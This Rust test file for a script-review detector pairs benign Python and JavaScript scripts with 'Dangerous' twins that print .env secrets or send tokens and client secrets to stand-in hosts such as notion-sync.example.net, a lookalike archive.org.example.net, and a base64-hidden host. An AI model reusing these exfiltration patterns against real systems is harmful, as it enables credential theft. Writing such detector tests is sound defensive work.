//! Session 52's precision rows for Python, JavaScript and TypeScript scripts (issue 17).
//! - A key of the project's `.env` whose name says nothing of a credential or a connection
//!   string (`TWILIO_FROM`, `NOTION_PROTOCOLS_DB`, `GOOGLE_ADMIN_SUBJECT`) is that setting, as
//!   the environment gives it: no secret, not the whole file. The twins read a key with a
//!   credential word (`SMTP_PASS`, a `_SK` suffix), a connection string (`DATABASE_URL`), or
//!   print the whole parsed file.
//! - A token sent to a host built at run time, in a script that checks that host against the
//!   token's documented host (`endswith(".instructure.com")`, `/\.atlassian\.net$/`) or, for a
//!   token of no vendor, against a zone only the network's own DNS answers (`.internal`), goes
//!   where the check lets it. The twins: no check, a check only named in a comment or a
//!   message, another service's host checked, a vendor's token checked against `.internal`,
//!   and a host decoded at run time.
//! - Microsoft 365 / Entra app secrets to the identity platform and Graph, the Internet
//!   Archive's keys to archive.org, MAST tokens to mast.stsci.edu, Google secrets to
//!   googleapis.com are their use; the twins send them elsewhere.
//! - A public read of a host the script later authenticates to with a token, as that token's
//!   documented host (`archive.org`), is a contact with the service it works with; the twins
//!   read from another host, or read alone with no token used there.
//! - A JavaScript mask helper cutting a secret to a parameter whose default is a few
//!   characters (`function mask(v, keep = 4) { return v.slice(0, keep) + '…'; }`) masks it
//!   (the token's read is all that is left); the twin's default keeps twelve.

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py, TypeScript as Ts};
use Verdict::{Clean, Dangerous, Suspicious};

/// A Python script parsing the project's `.env` into a dict, then printing `expr`.
fn dotenv_print_py(expr: &str) -> String {
    format!(
        "import os\nimport sys\nfrom pathlib import Path\n\nROOT = Path(__file__).resolve().parent\n\n\ndef dotenv(path):\n    out = {{}}\n    for line in path.read_text().splitlines():\n        if \"=\" in line and not line.lstrip().startswith(\"#\"):\n            k, v = line.split(\"=\", 1)\n            out[k.strip()] = v.strip().strip(\"'\\\"\")\n    return out\n\n\ndef main() -> int:\n    env = dotenv(ROOT / \".env\")\n    env.update(os.environ)\n    print(f\"using {{{expr}}}\")\n    return 0\n\n\nif __name__ == \"__main__\":\n    sys.exit(main())\n"
    )
}

/// A JS script merging the project's `.env` under the environment, then querying a Notion
/// database named by `db` with the token in the headers.
fn notion_js(db: &str, host: &str) -> String {
    format!(
        "import {{ existsSync, readFileSync }} from 'node:fs';\nimport path from 'node:path';\n\nconst ROOT = process.cwd();\nconst API = 'https://{host}/v1';\n\nfunction env() {{\n  const file = path.join(ROOT, '.env');\n  const vals = {{}};\n  if (existsSync(file)) {{\n    for (const line of readFileSync(file, 'utf8').split('\\n')) {{\n      const m = line.match(/^\\s*([A-Z0-9_]+)\\s*=\\s*(.*?)\\s*$/);\n      if (m) vals[m[1]] = m[2];\n    }}\n  }}\n  return {{ ...vals, ...process.env }};\n}}\n\nconst E = env();\nconst headers = {{ Authorization: `Bearer ${{E.NOTION_TOKEN}}`, 'Notion-Version': '2022-06-28' }};\n\nasync function main() {{\n  const res = await fetch(`${{API}}/databases/${{E.{db}}}/query`, {{ method: 'POST', headers, body: '{{}}' }});\n  if (!res.ok) throw new Error(`query: ${{res.status}}`);\n  const data = await res.json();\n  console.log(`${{data.results.length}} page(s)`);\n}}\n\nmain().catch((e) => {{ console.error(e.message); process.exit(1); }});\n"
    )
}

#[test]
fn dotenv_key_naming_no_credential_is_that_setting() {
    rows(&[
        (Py, dotenv_print_py("env['TWILIO_FROM']"), Clean, ""),
        (
            Py,
            dotenv_print_py("env['GOOGLE_ADMIN_SUBJECT']"),
            Clean,
            "",
        ),
        (
            Py,
            dotenv_print_py("env.get('CONFLUENCE_SPACE')"),
            Clean,
            "",
        ),
        (
            Js,
            notion_js("NOTION_PROTOCOLS_DB", "api.notion.com"),
            Clean,
            "",
        ),
        // A credential word, a cryptic credential suffix, a connection string, the whole file.
        (
            Py,
            dotenv_print_py("env['SMTP_PASS']"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            dotenv_print_py("env['STRIPE_SK']"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            dotenv_print_py("env['DATABASE_URL']"),
            Dangerous,
            "exfiltration",
        ),
        (Py, dotenv_print_py("env"), Dangerous, "exfiltration"),
        // The token to a host that is not Notion's.
        (
            Js,
            notion_js("NOTION_PROTOCOLS_DB", "notion-sync.example.net"),
            Dangerous,
            "exfiltration",
        ),
        // A key with a credential word no list of credential names holds: the whole file's
        // secret in the request's URL.
        (
            Js,
            notion_js("NOTION_SESSION", "api.notion.com"),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A JS client of a site read from the environment, checked by `check` (a statement that
/// exits unless the site passes), then sent `var` in Basic auth.
fn checked_site_js(check: &str, var: &str, site: &str) -> String {
    format!(
        "const SITE = {site};\n{check}\nconst AUTH = 'Basic ' + Buffer.from(`${{process.env.SITE_EMAIL}}:${{process.env.{var}}}`).toString('base64');\n\nasync function api(p) {{\n  const url = `https://${{SITE}}${{p}}`;\n  const res = await fetch(url, {{ headers: {{ Authorization: AUTH, Accept: 'application/json' }} }});\n  if (!res.ok) throw new Error(`${{p}}: ${{res.status}}`);\n  return res.json();\n}}\n\napi('/rest/api/3/myself').then((me) => console.log(me.displayName));\n"
    )
}

/// A Python client of a base URL read from the environment and checked by `check` (lines of
/// a function body that exit unless the host passes), then sent `var` as a Bearer token in a
/// session's default headers.
fn checked_base_py(check: &str, var: &str) -> String {
    format!(
        "import os\nimport sys\nfrom urllib.parse import urlparse\n\nimport requests\n\n\ndef check_base(url):\n    host = urlparse(url).hostname or \"\"\n{check}\n    return f\"https://{{host}}\"\n\n\ndef main():\n    base = check_base(os.environ.get(\"SERVICE_BASE_URL\", \"\"))\n    s = requests.Session()\n    s.headers.update({{\"Authorization\": f\"Bearer {{os.environ['{var}']}}\"}})\n    r = s.get(f\"{{base}}/api/v1/courses\", timeout=30)\n    r.raise_for_status()\n    print(len(r.json()))\n\n\nmain()\n"
    )
}

#[test]
fn token_to_a_host_the_script_checks_is_its_services() {
    let atlassian = r"if (!/^[a-z0-9-]+\.atlassian\.net$/.test(SITE)) { console.error('bad site'); process.exit(1); }";
    let internal = "if (!SITE.endsWith('.internal')) throw new Error('SITE must be *.internal');";
    let comment = "// SITE must be <name>.atlassian.net (checked by the proxy)";
    let message = "if (!SITE) throw new Error('set SITE to your <name>.atlassian.net site');";
    let canvas =
        "    if not host.endswith(\".instructure.com\"):\n        sys.exit(\"not a Canvas host\")";
    let other = "    if not host.endswith(\".example.org\"):\n        sys.exit(\"bad host\")";
    rows(&[
        (
            Js,
            checked_site_js(atlassian, "JIRA_API_TOKEN", "process.env.JIRA_SITE || ''"),
            Clean,
            "",
        ),
        (
            Ts,
            checked_site_js(
                atlassian,
                "ATLASSIAN_TOKEN",
                "process.env.ATLASSIAN_SITE ?? ''",
            ),
            Clean,
            "",
        ),
        (
            Js,
            checked_site_js(internal, "HA_TOKEN", "process.env.HA_HOST || ''"),
            Clean,
            "",
        ),
        (Py, checked_base_py(canvas, "CANVAS_TOKEN"), Clean, ""),
        // No check, a host only named, another service's host checked.
        (
            Js,
            checked_site_js("", "JIRA_API_TOKEN", "process.env.JIRA_SITE || ''"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            checked_site_js(comment, "JIRA_API_TOKEN", "process.env.JIRA_SITE || ''"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            checked_site_js(message, "JIRA_API_TOKEN", "process.env.JIRA_SITE || ''"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            checked_base_py(other, "CANVAS_TOKEN"),
            Dangerous,
            "exfiltration",
        ),
        // A vendor's token checked against a private zone: the host is a name of the network's
        // own zone, judged as that literal host is (`https://ghe.internal` with GITHUB_TOKEN
        // asks: a vendor's token off its vendor's hosts, session 54); a check of Atlassian's
        // host with a token of another service.
        (
            Js,
            checked_site_js(internal, "GITHUB_TOKEN", "process.env.GH_HOST || ''"),
            Suspicious,
            "secret-read",
        ),
        (
            Js,
            checked_site_js(
                atlassian,
                "STRIPE_SECRET_KEY",
                "process.env.JIRA_SITE || ''",
            ),
            Dangerous,
            "exfiltration",
        ),
        // The site decoded at run time.
        (
            Js,
            checked_site_js(
                atlassian,
                "JIRA_API_TOKEN",
                "Buffer.from('amlyYS5leGFtcGxlLm5ldA==', 'base64').toString()",
            ),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A JS client-credentials exchange of `var` at `token_url`.
fn client_secret_js(var: &str, token_url: &str) -> String {
    format!(
        "const body = new URLSearchParams({{\n  client_id: process.env.M365_CLIENT_ID,\n  client_secret: process.env.{var},\n  scope: 'https://graph.microsoft.com/.default',\n  grant_type: 'client_credentials',\n}});\n\nasync function token() {{\n  const res = await fetch('{token_url}', {{ method: 'POST', body }});\n  if (!res.ok) throw new Error(`token: ${{res.status}}`);\n  return (await res.json()).access_token;\n}}\n\ntoken().then((t) => console.log(t ? 'ok' : 'no token'));\n"
    )
}

#[test]
fn service_secrets_to_their_documented_hosts() {
    let ms = "https://login.microsoftonline.com/contoso.onmicrosoft.com/oauth2/v2.0/token";
    rows(&[
        (Js, client_secret_js("M365_CLIENT_SECRET", ms), Clean, ""),
        (Js, client_secret_js("AZURE_CLIENT_SECRET", ms), Clean, ""),
        (
            Js,
            client_secret_js(
                "GOOGLE_CLIENT_SECRET",
                "https://oauth2.googleapis.com/token",
            ),
            Clean,
            "",
        ),
        (
            Js,
            client_secret_js("IA_SECRET", "https://archive.org/metadata/item"),
            Clean,
            "",
        ),
        (
            Js,
            client_secret_js("MAST_TOKEN", "https://mast.stsci.edu/api/v0/invoke"),
            Clean,
            "",
        ),
        // The same secrets to another host, or to a host that only looks like theirs.
        (
            Js,
            client_secret_js("M365_CLIENT_SECRET", "https://login.example.net/token"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            client_secret_js("IA_SECRET", "https://archive.org.example.net/metadata"),
            Dangerous,
            "exfiltration",
        ),
        (
            Js,
            client_secret_js("MASTER_TOKEN", "https://mast.stsci.edu/api/v0/invoke"),
            Dangerous,
            "exfiltration",
        ),
    ]);
}

/// A JS script printing `TWILIO_AUTH_TOKEN` through a mask helper whose default keeps `keep`
/// characters.
fn mask_js(keep: u32) -> String {
    format!(
        "function mask(value, keep = {keep}) {{\n  if (!value) return '<unset>';\n  return value.slice(0, keep) + '…' + '*'.repeat(Math.max(0, Math.min(8, value.length - keep)));\n}}\n\nconst token = process.env.TWILIO_AUTH_TOKEN;\nconsole.log(`token ${{mask(token)}}`);\n"
    )
}

#[test]
fn mask_helper_cut_to_a_default_of_a_few_characters() {
    rows(&[
        // The token read and shown masked: its read is all that is left.
        (Js, mask_js(4), Suspicious, "secret-read"),
        (Js, mask_js(12), Dangerous, "exfiltration"),
    ]);
}

/// A JS check of an Internet Archive item: a public read from `read_host`, then, when `write`
/// is set, a metadata write with the keys to `archive.org`.
fn ia_js(read_host: &str, write: bool) -> String {
    let write = if write {
        "  const body = new URLSearchParams({ '-target': 'metadata', '-patch': '[]', access: process.env.IA_ACCESS, secret: process.env.IA_SECRET });\n  const w = await fetch(`https://archive.org/metadata/${id}`, { method: 'POST', body });\n  console.log(w.status);\n"
    } else {
        ""
    };
    format!(
        "async function check(id) {{\n  const res = await fetch(`https://{read_host}/metadata/${{id}}`);\n  const meta = await res.json();\n  console.log(meta.metadata.title);\n{write}}}\n\ncheck('lab-notes-2024').catch((e) => {{ console.error(e.message); process.exit(1); }});\n"
    )
}

#[test]
fn public_read_of_the_host_the_scripts_token_is_used_at() {
    rows(&[
        (Js, ia_js("archive.org", true), Clean, ""),
        (
            Js,
            ia_js("ia-mirror.example.org", true),
            Suspicious,
            "network",
        ),
        (Js, ia_js("archive.org", false), Suspicious, "network"),
    ]);
}
